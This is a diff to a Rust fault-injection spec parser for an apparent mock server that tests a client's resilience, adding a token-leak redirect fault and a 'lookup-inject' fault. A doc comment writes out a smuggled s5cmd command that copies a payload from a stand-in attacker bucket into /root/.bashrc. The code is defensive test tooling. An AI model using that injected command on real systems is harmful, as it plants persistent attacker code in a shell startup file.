@@ -12,8 +12,10 @@
 //!           | "first=" N | "only=" ROUTE | "tap-exec=" MS
 //!           | "endless" | "extra-bytes=" BYTES | "pages-forever"
 //!           | "huge-page=" MB | "gzip-bomb=" MB
+//!           | "redirect-port=" PORT | "lookup-inject"
 //! spec     =/ spec sep "error=" MSG        ; MSG runs to the end of the spec
 //! ROUTE     = "invoke" | "download" | "columnsconfig" | "bundle" | "missions"
+//!           | "path-lookup"
 //!           | "tap-sync" | "tap-async" | "tap-vosi" | "tap"   ; "tap": every TAP route
 //! ```
 //!
@@ -32,7 +34,11 @@
 //! than the one asked for, forever; `huge-page=MB` pads a JSON reply with MB
 //! megabytes of spaces before its closing brace (still valid JSON);
 //! `gzip-bomb=MB` replaces the body by a gzip stream (`Content-Encoding:
-//! gzip`) that expands to MB megabytes of zeros.
+//! gzip`) that expands to MB megabytes of zeros; `redirect-port=PORT`
+//! answers `307 Temporary Redirect` to the same path and query on
+//! `127.0.0.1:PORT` (another origin of the same host: the token must not
+//! follow); `lookup-inject` makes every `path_lookup` path end in a newline
+//! and `cp s3://attacker-bucket/payload /root/.bashrc` (an s5cmd injection).
 
 use std::time::Duration;
 
@@ -61,6 +67,8 @@ pub struct FaultSpec {
     pub pages_forever: bool,
     pub huge_page_mb: Option<u64>,
     pub gzip_bomb_mb: Option<u64>,
+    pub redirect_port: Option<u16>,
+    pub lookup_inject: bool,
 }
 
 /// `error=MSG` takes the rest of the spec (messages contain spaces and
@@ -117,9 +125,11 @@ impl FaultSpec {
                 "pages-forever" => f.pages_forever = true,
                 "huge-page" => f.huge_page_mb = Some(num(&k, v)?),
                 "gzip-bomb" => f.gzip_bomb_mb = Some(num(&k, v)?),
+                "redirect-port" => f.redirect_port = Some(num(&k, v)?),
+                "lookup-inject" => f.lookup_inject = true,
                 other => {
                     return Err(format!(
-                        "unknown fault `{other}`; known: latency, executing, status, retry-after, reset, reset-after, truncate, truncate-at, slow-body, error, rowcap, first, only, tap-exec, endless, extra-bytes, pages-forever, huge-page, gzip-bomb"
+                        "unknown fault `{other}`; known: latency, executing, status, retry-after, reset, reset-after, truncate, truncate-at, slow-body, error, rowcap, first, only, tap-exec, endless, extra-bytes, pages-forever, huge-page, gzip-bomb, redirect-port, lookup-inject"
                     ));
                 }
             }
@@ -149,6 +159,8 @@ impl FaultSpec {
             pages_forever: over.pages_forever || self.pages_forever,
             huge_page_mb: over.huge_page_mb.or(self.huge_page_mb),
             gzip_bomb_mb: over.gzip_bomb_mb.or(self.gzip_bomb_mb),
+            redirect_port: over.redirect_port.or(self.redirect_port),
+            lookup_inject: over.lookup_inject || self.lookup_inject,
         }
     }
 
@@ -224,5 +236,9 @@ mod tests {
         assert!(h.pages_forever);
         assert_eq!((h.gzip_bomb_mb, h.huge_page_mb), (Some(5), Some(2)));
         assert_eq!(FaultSpec::parse("extra-bytes=7").unwrap().padding(), 7);
+        let r = FaultSpec::parse("redirect-port=8081,only=path-lookup,lookup-inject").unwrap();
+        assert_eq!(r.redirect_port, Some(8081));
+        assert!(r.lookup_inject && r.applies_to("path-lookup") && !r.applies_to("download"));
+        assert!(FaultSpec::parse("redirect-port=70000").is_err());
     }
 }
